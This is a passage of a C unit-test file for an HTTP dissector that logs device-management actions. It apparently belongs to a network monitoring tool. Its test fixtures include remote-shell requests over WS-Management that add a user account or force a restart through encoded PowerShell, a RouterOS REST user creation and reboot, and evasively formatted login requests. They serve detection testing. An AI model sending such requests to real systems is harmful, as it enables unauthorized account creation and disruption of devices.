		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/wsman\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0}}\n",
		CLIENT("POST /wsman HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Content-Type: application/soap+xml\r\n"
		       "Content-Length: 259\r\n"
		       "\r\n"
		       "<s:Envelope xmlns:s=\"http://www.w3.org/2003/05/soap-envelope\"><s:Header><a:Action xmlns:a=\"x\">http://x/CIM_PowerManagementService/RequestPowerStat"
		       "eChange</a:Action></s:Header><s:Body><p:I xmlns:p=\"y\"><p:PowerState>10</p:PowerState></p:I></s:Body></s:Envelope>"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n")),
	DIALOGUE("a resource of WS-Management without a body",
		"action change account element=server object=http://schemas.xmlsoap.org/ws/2004/09/transfer/Delete name=CIM_Account outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/wsman\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0}}\n",
		CLIENT("POST /wsman HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Content-Type: application/soap+xml\r\n"
		       "Content-Length: 201\r\n"
		       "\r\n"
		       "<s:Envelope><s:Header><w:ResourceURI>http://x/cim-schema/2/CIM_Account</w:ResourceURI><a:Action>http://schemas.xmlsoap.org/ws/2004/09/transfer/Delete</a:Action></s:Header><s:Body></s:Body></s:Envelope>"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n")),
	DIALOGUE("who asks what the server is",
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/wsman\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0}}\n"
		"action read system element=server object=Identify outcome=ok evidence=observed\n",
		CLIENT("POST /wsman HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Content-Type: application/soap+xml\r\n"
		       "Content-Length: 66\r\n"
		       "\r\n"
		       "<s:Envelope><s:Header/><s:Body><i:Identify/></s:Body></s:Envelope>"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n")),
	DIALOGUE("a line of a remote shell, whose secret is hidden",
		"action change account element=server object=net user value=redacted:697a01ac outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/wsman\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0}}\n",
		CLIENT("POST /wsman HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Content-Type: application/soap+xml\r\n"
		       "Content-Length: 341\r\n"
		       "\r\n"
		       "<s:Envelope><s:Header><w:ResourceURI>http://schemas.microsoft.com/wbem/wsman/1/windows/shell/cmd</w:ResourceURI><a:Action>http://schemas.microsoft.com/wbem/wsman/1/windows/shell/Command</a:Action></s:Header><s:Body><r:CommandLine><r:Command>net</r:Command><r:Arguments>user eve Gehe1m /add</r:Arguments></r:CommandLine></s:Body></s:Envelope>"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n")),
	DIALOGUE("an encoded line of a remote shell",
		"action reboot system element=server object=Restart-Computer -Force outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/wsman\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0}}\n",
		CLIENT("POST /wsman HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Content-Type: application/soap+xml\r\n"
		       "Content-Length: 382\r\n"
		       "\r\n"
		       "<s:Envelope><s:Header><w:ResourceURI>http://schemas.microsoft.com/wbem/wsman/1/windows/shell/cmd</w:ResourceURI><a:Action>http://schemas.microsoft.com/wbem/wsman/1/windows/shell/Command</a:Action></s:Header><s:Body><r:CommandLine><r:Command>powershell -encodedcommand UgBlAHMAdABhAHIAdAAtAEMAbwBtAHAAdQB0AGUAcgAgAC0ARgBvAHIAYwBlAA==</r:Command></r:CommandLine></s:Body></s:Envelope>"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n")),
	DIALOGUE("what a remote shell says is no deed",
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/wsman\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0}}\n",
		CLIENT("POST /wsman HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Content-Type: application/soap+xml\r\n"
		       "Content-Length: 301\r\n"
		       "\r\n"
		       "<s:Envelope><s:Header><w:ResourceURI>http://schemas.microsoft.com/wbem/wsman/1/windows/shell/cmd</w:ResourceURI><a:Action>http://schemas.microsoft.com/wbem/wsman/1/windows/shell/Receive</a:Action></s:Header><s:Body><r:Receive><r:DesiredStream>stdout</r:DesiredStream></r:Receive></s:Body></s:Envelope>"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n")),
	DIALOGUE("RouterOS REST",
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/rest/ip/address/print\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0}}\n"
		"credential user=eve element=server clear=1 default=0\n"
		"action change account element=server object=PUT /rest/user outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/rest/user\",\"http_method\":\"PUT\",\"protocol\":\"HTTP/1.1\",\"status\":201,\"length\":0}}\n"
		"action reboot system element=server object=POST /rest/system/reboot outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/rest/system/reboot\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0}}\n"
		"action read config element=server object=POST /rest/ip/address/print outcome=ok evidence=observed\n",
		CLIENT("POST /rest/ip/address/print HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Content-Type: application/json\r\n"
		       "Content-Length: 2\r\n"
		       "\r\n"
		       "{}"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n"),
		CLIENT("PUT /rest/user HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Content-Type: application/json\r\n"
		       "Content-Length: 34\r\n"
		       "\r\n"
		       "{\"name\":\"eve\",\"password\":\"Gehe1m\"}"),
		SERVER("HTTP/1.1 201 Created\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n"),
		CLIENT("POST /rest/system/reboot HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "\r\n"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n")),
	DIALOGUE("malformed: two lengths, a folded line, a line without a name",
		"anomaly http.ambiguous_length\n"
		"anomaly http.folded_header\n"
		"anomaly http.bad_header\n"
		"http {\"http\":{\"hostname\":\"a\",\"url\":\"/x\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0}}\n",
		CLIENT("POST /x HTTP/1.1\r\n"
		       "Host: a\r\n"
		       " folded\r\n"
		       "no colon\r\n"
		       "Content-Length: 3\r\n"
		       "Transfer-Encoding: chunked\r\n"
		       "\r\n"
		       "3\r\n"
		       "abc\r\n"
		       "0\r\n"
		       "\r\n"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n")),
	DIALOGUE("malformed: a chunk of no size loses the place, the next answer is found again",
		"anomaly http.bad_chunk\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/1\",\"http_method\":\"GET\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0}}\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/2\",\"http_method\":\"GET\",\"protocol\":\"HTTP/1.1\",\"status\":404,\"length\":0}}\n",
		CLIENT("GET /1 HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "\r\n"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Transfer-Encoding: chunked\r\n"
		       "\r\n"
		       "zz\r\n"
		       "xxxx"),
		CLIENT("GET /2 HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "\r\n"),
		SERVER("\r\n"
		       "HTTP/1.1 404 Not Found\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n")),
	DIALOGUE("malformed: the server speaks first and says nonsense in the middle",
		"http {\"http\":{\"status\":200,\"length\":2}}\n"
		"http {\"http\":{\"status\":200,\"length\":0}}\n",
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Length: 2\r\n"
		       "\r\n"
		       "abXXXXHTTP/1.1 200 OK\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n")),
	DIALOGUE("evasive: line feeds alone, spaces around names, methods in disguise",
		"credential user=admin element=server clear=1 default=0\n"
		"action login session element=server object=admin user=admin outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"r1\",\"url\":\"/login\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0}}\n",
		CLIENT("POST /login HTTP/1.1\n"
		       "Host : r1\n"
		       "Content-length:  30\n"
		       "Content-Type: text/plain\n"
		       "\n"
		       "username=admin&password=Gehe1m"),
		SERVER("HTTP/1.1 200 OK\n"
		       "Content-Length: 0\n"
		       "\n")),
	DIALOGUE("malformed: a request that is cut, and one whose body never ends",
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/whole\",\"http_method\":\"GET\",\"protocol\":\"HTTP/1.1\"}}\n"
		"action change config element=server object=POST /goform/x outcome=unknown evidence=observed\n"
		"http {\"http\":{\"url\":\"/goform/x\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\"}}\n",
		CLIENT("GET /whole HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "\r\n"),
		CLIENT("POST /goform/x HTTP/1.1\r\n"
		       "Content-Length: 100\r\n"
		       "\r\n"
		       "short")),
	DIALOGUE("malformed: a status of nothing, and JSON that ends in a string",
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/command-api\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\"}}\n"
		"action reboot system element=server object=reload now outcome=unknown evidence=observed\n",
		CLIENT("POST /command-api HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Content-Type: application/json\r\n"
		       "Content-Length: 20\r\n"
		       "\r\n"
		       "{\"cmds\":[\"reload now"),
		SERVER("HTTP/1.1 abc\r\n"
		       "\r\n")),
	DIALOGUE("a tunnel is opened and left alone",
		"http {\"http\":{\"hostname\":\"host.example\",\"http_port\":443,\"url\":\"host.example:443\",\"http_method\":\"CONNECT\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0}}\n",
		CLIENT("CONNECT host.example:443 HTTP/1.1\r\n"
		       "Host: host.example:443\r\n"
		       "\r\n"),
		SERVER("HTTP/1.1 200 Connection established\r\n"
		       "\r\n"),
		CLIENT("\026\003\001 no HTTP"),
		SERVER("\026\003\003 neither")),
};
/* clang-format on */

START_TEST(each_dialogue_says_what_happened)
{
	vector_run(&dialogues[_i]);
}
END_TEST

static enum probe probe_of(const char *text, enum side from)
{
	struct probe_input in = {.data = span_str(text), .from = from, .stream = true};

	return dissector_http.probe(&in);
}

START_TEST(http_is_known_by_its_first_line_on_any_port)
{
	ck_assert_int_eq(probe_of("GET / HTTP/1.1\r\n", SIDE_CLIENT), PROBE_SURE);
	ck_assert_int_eq(probe_of("SUBSCRIBE /x HTTP/1.1\r\n", SIDE_CLIENT), PROBE_SURE);
	ck_assert_int_eq(probe_of("HTTP/1.0 200", SIDE_SERVER), PROBE_SURE);
	ck_assert_int_eq(probe_of("GET / HT", SIDE_CLIENT), PROBE_MORE);
	ck_assert_int_eq(probe_of("HTT", SIDE_SERVER), PROBE_MORE);
	ck_assert_int_eq(probe_of("SSH-2.0-x\r\n", SIDE_CLIENT), PROBE_NO);
	ck_assert_int_eq(probe_of("OPTIONS rtsp://x RTSP/1.0\r\n", SIDE_CLIENT), PROBE_NO);
	ck_assert_int_eq(probe_of("INVITE sip:x SIP/2.0\r\n", SIDE_CLIENT), PROBE_NO);
	ck_assert_int_eq(probe_of("PRI * HTTP/2.0\r\n", SIDE_CLIENT), PROBE_NO);
	ck_assert_int_eq(probe_of("HELO x\r\n", SIDE_CLIENT), PROBE_NO);
}
END_TEST

START_TEST(no_secret_is_ever_said)
{
	vectors_hide(dialogues, sizeof(dialogues) / sizeof(dialogues[0]), "Gehe1m");
}
END_TEST

int main(void)
{
	TCase *t = tcase_create("http");

	tcase_set_timeout(t, 300);
	tcase_add_loop_test(t, each_dialogue_says_what_happened, 0,
		(int)(sizeof(dialogues) / sizeof(dialogues[0])));
	tcase_add_test(t, http_is_known_by_its_first_line_on_any_port);
	tcase_add_test(t, no_secret_is_ever_said);
	return unit_run(t, "http");
}
